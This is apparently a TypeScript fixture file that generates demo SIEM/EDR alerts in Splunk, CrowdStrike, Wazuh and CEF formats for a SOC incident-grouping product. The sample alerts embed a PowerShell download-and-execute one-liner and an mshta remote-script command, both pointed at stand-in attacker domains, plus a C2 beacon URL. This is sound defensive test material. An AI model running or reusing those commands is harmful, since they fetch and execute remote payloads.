/**
 * Demo alerts in the shapes real sources send (Splunk ES webhook, CrowdStrike Falcon detection,
 * Wazuh alert, Palo Alto CEF syslog line), modelled on packages/ioc's fixtures. Per tenant they
 * repeat rule + host (grouping), reuse IOCs inside the tenant (related incidents) and share two
 * IOCs across tenants (the staff campaign view).
 */
export type DemoBatch = {
  source: 'splunk' | 'crowdstrike' | 'wazuh' | 'cef';
  contentType: string;
  body: string;
};

/** IOCs every demo tenant sees: a cross-client campaign. */
const CAMPAIGN_IP = '185.220.101.7';
const CAMPAIGN_DOMAIN = 'update-check.top';

const iso = (minutesAgo: number) => new Date(Date.now() - minutesAgo * 60_000).toISOString();

function splunk(tenant: string, host: string, user: string, ip: string, n: number, minutesAgo: number) {
  const epoch = Math.floor((Date.now() - minutesAgo * 60_000) / 1000);
  return {
    sid: `scheduler__admin__SplunkEnterpriseSecuritySuite__RMD5${tenant}${n}_at_${epoch}`,
    search_name: 'Endpoint - Suspicious PowerShell Download - Rule',
    app: 'SplunkEnterpriseSecuritySuite',
    owner: 'admin',
    results_link: `https://splunk.soc.example.net:8000/app/SplunkEnterpriseSecuritySuite/@go?sid=${tenant}${n}`,
    result: {
      _time: `${epoch}.000`,
      index: `${tenant}_endpoint`,
      host,
      dest: `${host}.${tenant}.local`,
      user: `${tenant.toUpperCase()}\\${user}`,
      src_ip: `10.20.30.${10 + n}`,
      dest_ip: ip,
      dest_port: '443',
      process_name: 'powershell.exe',
      process: `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('hxxp://${CAMPAIGN_DOMAIN.replace('.', '[.]')}/p${n}.ps1')"`,
      parent_process: `C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE /n "C:\\Users\\${user}\\Downloads\\Invoice_${88_000 + n}.docm"`,
      file_hash: 'SHA256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      urgency: n % 3 === 0 ? 'critical' : 'high',
      'annotations.mitre_attack': ['T1059.001', 'T1105'],
      count: '1',
    },
  };
}

function crowdstrike(tenant: string, host: string, user: string, n: number, minutesAgo: number) {
  const cid = '0123456789abcdef0123456789abcdef';
  return {
    cid,
    created_timestamp: iso(minutesAgo),
    detection_id: `ldt:${cid}:${tenant.length}${4_295_000_000 + n}`,
    device: {
      device_id: `fedcba9876543210fedcba98765432${String(n).padStart(2, '0')}`,
      cid,
      hostname: host,
      local_ip: `192.168.40.${100 + n}`,
      external_ip: '81.2.69.160',
      machine_domain: `${tenant}.local`,
      platform_name: 'Windows',
      os_version: 'Windows 11',
    },
    behaviors: [
      {
        behavior_id: '10197',
        filename: 'mshta.exe',
        cmdline: `mshta.exe https://files-share.click/view/doc${n % 2}.hta`,
        tactic: 'Defense Evasion',
        tactic_id: 'TA0005',
        technique: 'Mshta',
        technique_id: 'T1218.005',
        display_name: 'MshtaRemoteScript',
        description: 'Mshta launched a remote HTA script. This may indicate an attacker executing a payload.',
        severity: 70,
        confidence: 80,
        user_name: user,
        timestamp: iso(minutesAgo),
        md5: '5d2e6e5f4e0a3a3c2d1b0f9e8d7c6b5a',
        sha256: 'a4b2c0d8e6f4a2b0c8d6e4f2a0b8c6d4e2f0a8b6c4d2e0f8a6b4c2d0e8f6a4b2',
      },
    ],
    max_severity: 70,
    max_severity_displayname: 'High',
    status: 'new',
  };
}

function wazuh(tenant: string, host: string, attacker: string, n: number, minutesAgo: number) {
  return {
    timestamp: iso(minutesAgo).replace('Z', '+0000'),
    rule: {
      level: 10,
      description: 'sshd: brute force trying to get access to the system. Authentication failed.',
      id: '5763',
      mitre: { id: ['T1110'], tactic: ['Credential Access'], technique: ['Brute Force'] },
      groups: ['syslog', 'sshd', 'authentication_failures'],
    },
    agent: {
      id: `00${n}`,
      name: `${host}.${tenant}.com`,
      ip: `10.0.2.${15 + n}`,
      labels: { client: tenant },
    },
    manager: { name: 'wazuh-manager-eu1' },
    id: `${1_732_349_564 + n}.${1_928_374 + n}`,
    full_log: `Nov 23 08:12:44 ${host} sshd[20871]: Failed password for invalid user admin from ${attacker} port ${51_000 + n} ssh2`,
    predecoder: { program_name: 'sshd', hostname: host },
    decoder: { parent: 'sshd', name: 'sshd' },
    data: { srcip: attacker, srcport: String(51_000 + n), dstuser: 'admin' },
    location: '/var/log/auth.log',
  };
}

function cef(tenant: string, n: number) {
  return `<134>Nov 23 09:41:0${n % 10} fw-edge-01 CEF:0|Palo Alto Networks|PAN-OS|10.2.4|threat|Command and Control Traffic|9|src=10.8.1.${20 + n} dst=${CAMPAIGN_IP} spt=${49_800 + n} dpt=443 suser=${tenant}\\\\svc-backup proto=TCP act=reset-both request=https://c2.darkrelay.xyz/gate.php?id\\=${70 + n} fname=beacon.dll fileHash=3a4b5c6d7e8f90a1b2c3d4e5f6a7b8c9 cs1Label=Rule cs1=Block-C2 cs2Label=MitreTechnique cs2=T1071.001 deviceExternalId=PA-5220-EDGE01 externalId=${7_301_944_582 + n} msg=C2 beacon blocked to c2.darkrelay.xyz`;
}

/** The batches one tenant sends, by source (each source gets its own data source). */
export function demoBatches(tenantSlug: string): DemoBatch[] {
  const short = tenantSlug.split('-')[0] ?? tenantSlug;
  const hosts = [
    `WS-${short.toUpperCase()}-042`,
    `WS-${short.toUpperCase()}-017`,
    `SRV-${short.toUpperCase()}-DB1`,
  ];
  const json = (items: unknown[]) => JSON.stringify(items);
  return [
    {
      source: 'splunk',
      contentType: 'application/json',
      // Same rule on the same host twice (grouped), then another host.
      body: json([
        splunk(short, hosts[0] as string, 'j.doe', CAMPAIGN_IP, 1, 50),
        splunk(short, hosts[0] as string, 'j.doe', CAMPAIGN_IP, 2, 35),
        splunk(short, hosts[1] as string, 'm.lee', '45.61.136.88', 3, 20),
      ]),
    },
    {
      source: 'crowdstrike',
      contentType: 'application/json',
      body: json([
        crowdstrike(short, hosts[0] as string, 'j.doe', 1, 30),
        crowdstrike(short, hosts[2] as string, 'svc-sql', 2, 12),
      ]),
    },
    {
      source: 'wazuh',
      contentType: 'application/x-ndjson',
      body: [
        wazuh(short, 'web-01', '103.145.13.90', 1, 40),
        wazuh(short, 'web-01', '103.145.13.90', 2, 39),
        wazuh(short, 'vpn-01', '103.145.13.90', 3, 8),
      ]
        .map((a) => JSON.stringify(a))
        .join('\n'),
    },
    { source: 'cef', contentType: 'text/plain', body: [cef(short, 1), cef(short, 2)].join('\n') },
  ];
}
